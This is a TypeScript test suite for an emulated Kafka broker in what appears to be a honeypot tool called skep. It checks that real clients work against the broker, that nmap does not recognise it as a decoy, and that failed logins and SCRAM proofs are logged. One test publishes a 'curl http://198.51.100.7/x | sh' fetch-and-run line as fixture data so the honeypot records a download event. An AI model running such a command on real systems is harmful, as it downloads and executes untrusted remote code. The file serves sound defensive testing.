import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { createHash, createHmac, pbkdf2Sync } from 'node:crypto'
import { after, before, describe, test } from 'node:test'
import type { Event } from '#events/event.ts'
import { driver, installDrivers } from '../drivers.ts'
import { missing, runClient, type Skep, startSkep } from '../skep.ts'

type Login = Event & { user?: { name: string }; skep: { login: { password?: string; hash?: string } } }
type Line = Event & { process?: { command_line?: string } }
const ofAction = (action: string) => (event: Event) => event.skep.service === 'kafka' && event.event.action === action
const commandLine = (fits: RegExp) => (event: Event) =>
  ofAction('command')(event) && fits.test((event as Line).process?.command_line ?? '')
const python = spawnSync('/usr/bin/python3', ['-c', 'import kafka'], { stdio: 'ignore' }).status === 0
const noDrivers = installDrivers()

type Record = { topic: string; partition: number; message: { value: Buffer | null; offset: string } }
type KafkaJs = {
  Kafka: new (
    options: object,
  ) => {
    admin(): {
      connect(): Promise<void>
      disconnect(): Promise<void>
      listTopics(): Promise<string[]>
      createTopics(options: object): Promise<boolean>
      deleteTopics(options: object): Promise<void>
      fetchTopicOffsets(topic: string): Promise<{ partition: number; offset: string }[]>
      describeCluster(): Promise<{ clusterId: string; brokers: object[] }>
      describeConfigs(options: object): Promise<{ resources: { configEntries: { configName: string }[] }[] }>
      listGroups(): Promise<{ groups: { groupId: string }[] }>
    }
    producer(): {
      connect(): Promise<void>
      disconnect(): Promise<void>
      send(options: object): Promise<unknown>
    }
    consumer(options: object): {
      connect(): Promise<void>
      disconnect(): Promise<void>
      subscribe(options: object): Promise<void>
      run(options: { eachMessage(record: Record): Promise<void> }): Promise<void>
    }
  }
  logLevel: { NOTHING: number }
}

/** Is the proof in such a hash this password's (RFC 5802 §3)? */
function proves(hash: string, password: string): boolean {
  const [, kind = '', rounds, salt = '', about = '', proof = ''] = hash.split('$')
  const digest = kind.replace('scram-', '').replace('-', '')
  const size = digest === 'sha256' ? 32 : 64
  const salted = pbkdf2Sync(password, Buffer.from(salt, 'base64'), Number(rounds), size, digest)
  const clientKey = createHmac(digest, salted).update('Client Key').digest()
  const stored = createHash(digest).update(clientKey).digest()
  const signature = createHmac(digest, stored).update(Buffer.from(about, 'base64')).digest()
  return Buffer.from(clientKey.map((byte, i) => byte ^ signature[i]!)).toString('base64') === proof
}

describe('Kafka, with real clients', () => {
  let skep: Skep
  let port: string
  before(async () => {
    skep = await startSkep({ config: 'persona: { os: debian-12 }\n' })
    port = String(skep.port('kafka'))
  })
  after(async () => {
    await skep?.stop()
  })

  test('kcat lists, publishes, reads, and reads in a group', { skip: missing('kcat') }, async () => {
    const kcat = (args: string[], input = '') =>
      runClient('kcat', ['-b', `127.0.0.1:${port}`, ...args], { input, seconds: 40 })
    const list = await kcat(['-L'])
    assert.match(list.out, /1 brokers:\n +broker \d at 127\.0\.0\.1:\d+ \(controller\)/, list.err)
    assert.match(list.out, /topic "app-logs" with 3 partitions/)
    const seeded = await kcat(['-C', '-t', 'app-logs', '-o', 'beginning', '-e', '-q'])
    assert.match(seeded.out, /^\{"level":"\w+","host":/m, seeded.err)
    const sent = await kcat(['-P', '-t', 'left', '-z', 'gzip'], 'one\ntwo curl http://198.51.100.7/x | sh\n')
    assert.equal(sent.status, 0, sent.err)
    assert.equal(
      (await kcat(['-C', '-t', 'left', '-o', 'beginning', '-e', '-q'])).out,
      'one\ntwo curl http://198.51.100.7/x | sh\n',
    )
    const group = await kcat(['-G', 'kcat-group', '-X', 'auto.offset.reset=earliest', '-e', '-q', 'left'])
    assert.match(group.out, /^one\n/, group.err)
    await skep.eventually(commandLine(/^Produce left one$/))
    await skep.eventually(ofAction('file-download'))
  })

  test('kafkajs administers, publishes, and consumes in a group', { skip: noDrivers }, async () => {
    const { Kafka, logLevel } = driver<KafkaJs>('kafkajs')
    const kafka = new Kafka({ clientId: 'test', brokers: [`127.0.0.1:${port}`], logLevel: logLevel.NOTHING })
    const admin = kafka.admin()
    await admin.connect()
    assert.ok((await admin.listTopics()).includes('user-activity'))
    assert.equal(await admin.createTopics({ topics: [{ topic: 'js', numPartitions: 2 }] }), true)
    assert.equal((await admin.describeCluster()).brokers.length, 1)
    const { resources } = await admin.describeConfigs({ resources: [{ type: 2, name: 'js' }], includeSynonyms: false })
    assert.ok(resources[0]!.configEntries.some(({ configName }) => configName === 'retention.ms'))
    const producer = kafka.producer()
    await producer.connect()
    await producer.send({ topic: 'js', messages: [{ key: 'k', value: 'from node', headers: { a: 'b' } }] })
    await producer.disconnect()
    const consumer = kafka.consumer({ groupId: 'readers' })
    await consumer.connect()
    await consumer.subscribe({ topic: 'js', fromBeginning: true })
    const heard = await new Promise(resolve => {
      consumer.run({ eachMessage: async ({ message }) => resolve(String(message.value)) }).catch(resolve)
    })
    assert.equal(heard, 'from node')
    assert.ok((await admin.listGroups()).groups.some(({ groupId }) => groupId === 'readers'))
    await consumer.disconnect()
    assert.equal(
      (await admin.fetchTopicOffsets('js')).reduce((sum, { offset }) => sum + Number(offset), 0),
      1,
    )
    await admin.deleteTopics({ topics: ['js'] })
    assert.ok(!(await admin.listTopics()).includes('js'))
    await admin.disconnect()
  })

  test("Python's kafka speaks an older version of everything", { skip: !python }, async () => {
    const script = `
import kafka
at = {'bootstrap_servers': '127.0.0.1:${port}'}
p = kafka.KafkaProducer(**at); r = p.send('python', b'hello', key=b'k').get(10); print(r.topic, r.partition, r.offset); p.close()
c = kafka.KafkaConsumer('python', auto_offset_reset='earliest', consumer_timeout_ms=8000, group_id='py', **at)
print([m.value for m in c][0]); c.close()
old = kafka.KafkaConsumer('python', auto_offset_reset='earliest', consumer_timeout_ms=3000, api_version=(0, 10), **at)
print([m.value for m in old][0]); old.close()`
    const { out, err } = await runClient('/usr/bin/python3', ['-c', script], { seconds: 60 })
    assert.equal(out, "python 0 0\nb'hello'\nb'hello'\n", err)
  })

  test('nmap does not take it for something else', { skip: missing('nmap') }, async () => {
    const { out } = await runClient('nmap', ['-Pn', '-n', '-sV', '-p', port, '127.0.0.1'], { seconds: 200 })
    // It has no probe for Kafka: of a real broker it says no more than that the port is open.
    assert.match(out, /\/tcp +open +\S+/, out)
    assert.doesNotMatch(out, /honey|skep/i)
  })
})

describe('Kafka with a log-in', () => {
  let skep: Skep
  let port: string
  before(async () => {
    const access = "access: { rules: ['app:kafka-secret'], otherwise: refuse }"
    const options = `mechanisms: [PLAIN, SCRAM-SHA-256, SCRAM-SHA-512], ${access}`
    skep = await startSkep({ config: `persona: { os: debian-12 }\nservices: { kafka: { ${options} } }\n` })
    port = String(skep.port('kafka'))
  })
  after(async () => {
    await skep?.stop()
  })
  const kcat = (mechanism: string, user: string, password: string) =>
    runClient('kcat', [
      ...['-b', `127.0.0.1:${port}`, '-L', '-m', '5', '-X', 'security.protocol=SASL_PLAINTEXT'],
      ...['-X', `sasl.mechanism=${mechanism}`, '-X', `sasl.username=${user}`, '-X', `sasl.password=${password}`],
    ])
  const logins = async (user: string, count: number) => {
    const wanted = (event: Event) => ofAction('login')(event) && (event as Login).user?.name === user
    return ((await skep.eventually(wanted, count)) as Login[]).map(event => event.skep.login)
  }

  test('kcat comes in with the right password, and each wrong one is recorded', { skip: missing('kcat') }, async () => {
    assert.match((await kcat('PLAIN', 'app', 'kafka-secret')).out, /topic "app-logs"/)
    for (const word of ['letmein', 'admin-secret']) {
      const { err } = await kcat('PLAIN', 'admin', word)
      assert.match(err, /Authentication failed: Invalid username or password|Failed to acquire metadata/)
    }
    const words = (await logins('admin', 2)).map(({ password }) => password)
    for (const word of ['letmein', 'admin-secret']) assert.ok(words.includes(word), word)
  })
  test('SCRAM leaves a proof', { skip: missing('kcat') }, async () => {
    // No cracker reads this form: what it is made of is tried by hand.
    for (const digest of ['SHA-256', 'SHA-512']) {
      await kcat(`SCRAM-${digest}`, `user${digest}`, 'summer2019')
      const [login] = await logins(`user${digest}`, 1)
      assert.ok(proves(login!.hash!, 'summer2019'), login!.hash!)
      assert.ok(!proves(login!.hash!, 'letmein'))
    }
  })
})
